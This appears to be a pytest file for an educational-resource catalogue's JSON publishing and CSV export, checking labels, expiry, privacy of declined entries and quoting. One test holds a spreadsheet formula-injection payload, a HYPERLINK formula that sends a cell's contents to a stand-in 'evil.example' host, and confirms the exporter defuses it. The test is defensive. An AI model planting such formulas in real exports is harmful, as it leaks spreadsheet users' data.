"""Records for programs: JSON values and the table."""

import csv
import io
import json
from datetime import date

import pytest
import yaml

from resource_hub import catalogue
from resource_hub.catalogue import publishing, table
from resource_hub.schema import Document
from resource_hub.source import read_yaml

WORDS = {
    "states": {"proposed": {"id": "proposed", "label": "Proposed"}},
    "derived_states": {"expired": {"id": "expired", "label": "Expired"}},
    "audience": {"teacher": {"id": "teacher", "label": "Teacher"}},
    "grades": {
        "K": {"id": "K", "label": "Kindergarten", "age": 5},
        "1": {"id": "1", "label": "Grade 1", "age": 6},
    },
}
ROW = {
    "id": "a-tool", "title": "A tool", "url": "https://www.example.org/a", "kind": "tool",
    "publisher": {"name": "Makers of tools"}, "description": "Counts words.",
    "why_listed": "Teams can count words.", "relationship": "not-declared",
    "audience": ["teacher"], "topics": ["tier-2"], "tiers": [1], "domains": ["academics"],
    "grades": {"from": "K", "to": "1"}, "languages": ["en"], "cost": "free",
    "license": "unspecified", "formats": ["web"], "added": "2026-01-05", "state": "proposed",
    "checked": {"level": "P", "date": "2026-01-06", "note": "For editors alone."},
    "evidence": {"level": "none-yet", "sources": []},
}  # fmt: skip
VETTING = {
    "rubric": "1.0",
    "reviewers": [
        {"role": "researcher", "conflict": "none"},
        {"role": "teacher", "conflict": {"kind": "once worked there", "recused": True}},
    ],
    "decision": "list",
    "decided": "2026-02-01",
    "review_by": "2027-02-01",
}
DECLINED = {
    "state": "declined",
    "vetting": {**VETTING, "decision": "decline", "reason": "No data."},
}


def published(*rows: dict, day: date | None = None) -> list[dict]:
    whole = [{**ROW, "url": f"https://example.org/{n}", **row} for n, row in enumerate(rows)]
    source, _ = read_yaml(yaml.safe_dump(whole), "resources.yaml")
    records, _ = catalogue.read_catalogue(Document(source, whole))
    around = publishing.Around(
        WORDS,
        work=lambda source: {"key": source.partition(",")[0], "entry": f"Entry of {source}"},
        scale={"ratings": "ratings"}.get,
        day=day,
    )
    return publishing.published_records(catalogue.shelf_of(records, WORDS, day), around)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_a_term_is_told_by_its_id_and_by_its_label():
    (record,) = published({})

    assert record["audience"] == [{"id": "teacher", "label": "Teacher"}]
    assert record["grades"]["from"] == {"id": "K", "label": "Kindergarten", "age": 5}
    assert record["kind"] == {"id": "tool", "label": "tool"}


def test_records_stand_in_the_order_of_their_ids_whatever_that_of_the_file():
    assert [one["id"] for one in published({"id": "b"}, {"id": "c"}, {"id": "a"})] == [
        "a",
        "b",
        "c",
    ]


def test_what_is_unknown_is_null_or_an_empty_list():
    (record,) = published({})

    assert record["vetting"] is record["minutes"] is record["cost_note"] is None
    assert record["jurisdiction"] == record["changes"] == record["elsewhere"] == []
    assert record["publisher"] == {"name": "Makers of tools", "kind": None}


def test_remarks_of_editors_are_not_published():
    (record,) = published({})

    assert record["checked"] == {"confirmed": False, "date": "2026-01-06"}
    assert "For editors alone" not in json.dumps(record)


def test_the_state_is_that_of_the_day():
    certified = {
        **VETTING,
        "decision": "certify",
        "valid_until": "2026-06-01",
        "claim": "It counts.",
    }
    row = {"state": "certified", "vetting": certified}

    (before,) = published(row, day=date(2026, 6, 1))
    (after,) = published(row, day=date(2026, 6, 2))

    assert (before["state"]["id"], before["as_of"]) == ("certified", "2026-06-01")
    assert after["state"] == {"id": "expired", "label": "Expired"}


def test_reviewers_are_told_by_role_with_their_conflicts():
    (record,) = published({"state": "listed", "vetting": VETTING})

    assert record["vetting"]["reviewers"][1] == {
        "role": {"id": "teacher", "label": "Teacher"},
        "conflict": "once worked there",
        "recused": True,
        "outside": False,
    }


def test_a_rating_names_its_scale_where_the_hub_describes_it():
    seen = {"rating": "Good", "seen": "2026-01-02"}
    (record,) = published({"elsewhere": [{"by": "ratings", **seen}, {"by": "A blog", **seen}]})

    assert [one["scale"] for one in record["elsewhere"]] == ["ratings", None]
    assert record["elsewhere"][1]["by"] == "A blog"


WITHDRAWN = {**VETTING, "decision": "withdraw", "successor": "secret"}
REVERSED = {**VETTING, "history": [{"date": "2026-01-08", "decision": "decline"}]}


@pytest.mark.parametrize(
    "row",
    [
        {"same_address_as": "secret"},
        {"state": "withdrawn", "vetting": WITHDRAWN},
        {"state": "listed", "vetting": REVERSED},
    ],
)
def test_nothing_leads_to_what_was_declined_without_consent(row):
    (record,) = published({**row, "id": "open"}, {"id": "secret", **DECLINED})

    assert record["id"] == "open"
    assert "secret" not in json.dumps(record)
    assert '"decline"' not in json.dumps(record)


def test_what_was_declined_is_told_once_its_maker_agrees():
    named = {**DECLINED, "vetting": {**DECLINED["vetting"], "named": True}}
    (record,) = published(named)

    assert (record["vetting"]["decision"], record["vetting"]["reason"]) == ("decline", "No data.")


# The table -----------------------------------------------------------------------------------


def test_the_table_has_a_line_for_each_record_and_lists_in_one_cell():
    text = table.table_of(published({"formats": ["web", "pdf"], "minutes": 4}, {"id": "b"}))

    first, second = rows_of(text)
    assert (first["Formats"], first["Minutes"], first["For whom"]) == ("web; pdf", "4", "Teacher")
    assert (second["Minutes"], second["Address confirmed"]) == ("", "no")
    assert text.count("\r\n") == 3


def test_the_table_begins_with_a_mark_so_that_excel_reads_it_as_utf_8():
    assert table.table_of(published({})).startswith("\ufeffId,Title,")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_that_a_spreadsheet_would_run_is_text(sign):
    title = f'{sign}HYPERLINK("https://evil.example/?"&A1,"Open")'
    (row,) = rows_of(table.table_of(published({"title": title})))

    assert row["Title"] == f"'{title}"


@pytest.mark.parametrize("title", ['Says "hi", twice', "Two\nlines", "a;b", "Ünïcode ∑", "5 = 5"])
def test_any_other_title_comes_back_as_it_was(title):
    (row,) = rows_of(table.table_of(published({"title": title})))

    assert row["Title"] == title
